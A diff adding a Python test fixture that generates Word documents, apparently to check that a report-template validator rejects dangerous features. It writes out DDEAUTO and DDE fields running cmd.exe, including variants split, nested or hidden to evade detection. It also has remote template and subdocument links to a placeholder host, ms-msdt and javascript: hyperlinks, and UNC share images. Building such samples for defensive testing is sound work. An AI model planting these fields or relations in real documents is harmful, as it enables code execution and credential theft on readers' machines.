@@ -1,0 +1,150 @@
+"""Word templates that lead outside or run something, made by changing a plain one."""
+
+import io
+import zipfile
+from collections.abc import Callable, Mapping
+
+from docx import Document
+
+Change = Callable[[dict[str, str]], None]
+_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_RELS = "word/_rels/document.xml.rels"
+_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def word(*changes: Change, text: str = "{{ report.team }}") -> bytes:
+    """Return a Word document of one paragraph, changed."""
+    plain, out = io.BytesIO(), io.BytesIO()
+    document = Document()
+    document.add_paragraph(text)
+    document.save(plain)
+    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
+        parts = {name: old.read(name).decode("latin-1") for name in old.namelist()}
+        for change in changes:
+            change(parts)
+        for name, part in parts.items():
+            new.writestr(name, part.encode("latin-1"))
+    return out.getvalue()
+
+
+def relation(kind: str, target: str, *, part: str = "word/document.xml", mode: str = "External") -> Change:
+    """Return a change that adds a relation of a part."""
+    folder, _, name = part.rpartition("/")
+    rels = f"{folder}/_rels/{name}.rels"
+    start = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+
+    def change(parts: dict[str, str]) -> None:
+        told = f' TargetMode="{mode}"' if mode else ""
+        address = kind if "://" in kind else f"{_RELATIONS}/{kind}"
+        line = f'<Relationship Id="rIdX" Type="{address}" Target="{target}"{told}/>'
+        parts.setdefault(rels, f"{start}</Relationships>")
+        parts[rels] = parts[rels].replace("</Relationships>", f"{line}</Relationships>")
+
+    return change
+
+
+def within(markup: str, part: str = "word/document.xml", before: str = "</w:body>") -> Change:
+    """Return a change that puts markup into a part, at its end."""
+
+    def change(parts: dict[str, str]) -> None:
+        assert before in parts[part]
+        parts[part] = parts[part].replace(before, f"{markup}{before}", 1)
+
+    return change
+
+
+def field(*pieces: str) -> Change:
+    """Return a change that adds a field; its code stands in several runs."""
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
+    return within(f"<w:p>{_char('begin')}{runs}{_char('separate')}<w:r><w:t>x</w:t></w:r>{_char('end')}</w:p>")
+
+
+def _char(kind: str) -> str:
+    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+
+def _text(code: str) -> str:
+    return f"<w:r><w:instrText>{code}</w:instrText></w:r>"
+
+
+_MADE_INSIDE = (
+    f"<w:p>{_char('begin')}{_char('begin')}{_text('IF 1 = 1 DDEAUTO')}{_char('end')}{_text(' c:/x.exe')}"
+    f"{_char('end')}</w:p>"
+)
+_VML = '<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml">{}</v:rect></w:pict></w:r></w:p>'
+
+HOSTILE: Mapping[str, tuple[bytes, str]] = {
+    "picture": (word(relation("image", "http://x.example/p.png")), "document.xml.rels leads outside (image)"),
+    "picture of the file system": (word(relation("image", "file:///c:/x.png")), "leads outside (image)"),
+    "picture of a share": (word(relation("image", "\\\\x.example\\p.png")), "leads outside (image)"),
+    "picture without a mode": (word(relation("image", "http://x.example/p", mode="")), "leads outside (image)"),
+    "template": (
+        word(relation("attachedTemplate", "http://x.example/t.dotm", part="word/settings.xml")),
+        "settings.xml.rels holds what a report may not (attachedTemplate)",
+    ),
+    "object": (word(relation("oleObject", "http://x.example/o")), "(oleObject)"),
+    "object inside": (word(relation("oleObject", "embeddings/o.bin", mode="")), "(oleObject)"),
+    "page inside": (word(relation("aFChunk", "x.html", mode="")), "(aFChunk)"),
+    "document inside": (word(relation("subDocument", "http://x.example/d.docx")), "(subDocument)"),
+    "frame": (word(relation("frame", "http://x.example/f.html", part="word/webSettings.xml")), "(frame)"),
+    "macros": (
+        word(relation("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", mode="")),
+        "(vbaProject)",
+    ),
+    "control": (word(relation("control", "activeX/activeX1.xml", mode="")), "(control)"),
+    "bar of buttons": (
+        word(relation("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "ui.xml", mode="")),
+        "(extensibility)",
+    ),
+    "addresses of letters": (
+        word(relation("mailMergeSource", "file:///c:/x.xlsx", part="word/settings.xml")),
+        "(mailMergeSource)",
+    ),
+    "letters": (
+        word(within("<w:mailMerge/>", "word/settings.xml", "<w:defaultTabStop")),
+        "settings.xml fetches letters",
+    ),
+    "workbook that is none": (word(relation("package", "embeddings/x.xlsm", mode="")), "(package)"),
+    "link that runs": (word(relation("hyperlink", "javascript:alert(1)")), "leads outside (hyperlink)"),
+    "link to a file": (word(relation("hyperlink", "file://x.example/share/x.exe")), "leads outside (hyperlink)"),
+    "link to a tool": (word(relation("hyperlink", "ms-msdt:/id")), "leads outside (hyperlink)"),
+    "DDEAUTO": (word(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), "document.xml has a field"),
+    "DDE in pieces": (word(field("DD", "E cmd", " /c calc")), "has a field"),
+    "dde in small letters": (word(field(" ddeauto cmd")), "has a field"),
+    "DDE in a simple field": (word(within('<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>')), "has a field"),
+    "DDE that a field makes": (word(within(_MADE_INSIDE)), "has a field"),
+    "DDE in what was deleted": (
+        word(within(f"<w:p>{_char('begin')}<w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r>{_char('end')}</w:p>")),
+        "has a field",
+    ),
+    "DDE that never ends": (word(within(f"<w:p>{_char('begin')}{_text('DDE cmd')}</w:p>")), "has a field"),
+    "INCLUDEPICTURE": (word(field('INCLUDEPICTURE "http://x.example/p.png" \\d')), "has a field"),
+    "INCLUDETEXT": (word(field('INCLUDETEXT "//x.example/share/t.docx"')), "has a field"),
+    "LINK": (word(field("LINK Excel.Sheet.8 c:/x.xlsx")), "has a field"),
+    "QUOTE": (word(field("QUOTE 68 68 69")), "has a field"),
+    "MACROBUTTON": (word(field("MACROBUTTON x y")), "has a field"),
+    "DATABASE": (word(field("DATABASE x")), "has a field"),
+    "HYPERLINK": (word(field('HYPERLINK "file:///c:/x.exe"')), "leads outside"),
+    "HYPERLINK to a share": (word(field('HYPERLINK "\\\\x.example\\x"')), "leads outside"),
+    "old drawing": (word(within(_VML.format('<v:imagedata src="http://x.example/p.png"/>'))), "leads outside"),
+    "old fill": (
+        word(within(_VML.format('<v:fill src="//x.example/p" xmlns:o="urn:schemas-microsoft-com:office:office"/>'))),
+        "leads outside",
+    ),
+    "broken part": (word(within("<w:p", before="</w:body>")), "document.xml is damaged"),
+}
+"""Each with the beginning of what is said of it."""
+HARMLESS: Mapping[str, bytes] = {
+    "plain": word(),
+    "number of the page": word(field("PAGE"), field(" NUMPAGES  \\* MERGEFORMAT ")),
+    "contents": word(field('TOC \\o "1-3" \\h')),
+    "sum": word(field("=SUM(ABOVE)")),
+    "link": word(field('HYPERLINK "https://x.example/"'), relation("hyperlink", "mailto:a@x.example")),
+    "link within": word(field('HYPERLINK \\l "_Toc1"')),
+    "numbers of a chart": word(relation("package", "../embeddings/x.xlsx", part="word/charts/c.xml", mode="")),
+}
+MADE_IN_FILLING: Mapping[str, bytes] = {
+    "field": word(field("{{ 'DDE' }}AUTO cmd")),
+    "field in pieces": word(field("{{ 'PAGE' if false else 'DDE cmd' }}")),
+}
+"""What only the filled document holds."""
